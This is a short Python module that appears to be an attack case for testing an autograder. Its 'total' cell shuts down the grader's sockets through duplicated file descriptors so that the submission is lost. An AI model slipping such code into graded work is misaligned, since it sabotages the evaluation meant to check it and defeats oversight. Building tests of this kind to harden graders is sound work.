"""Shut the grader's socket down during a call."""

from attacks.socket_writer import WRITER

CLASS = ("12", "4")
STOCK = "submission lost"
ALONE = True  # stock may wait for a garbled heartbeat for ever
PATIENCE = 12
KEEPS = 2
CELLS = {
    "greet": 'def greet(name):\n    return f"Hello, {name}!"',
    "first": WRITER,
    "total": """\
def total(numbers):
    import socket
    for number in lines():
        socket.socket(fileno=os.dup(number)).shutdown(socket.SHUT_RDWR)
    return -1.0
""",
}
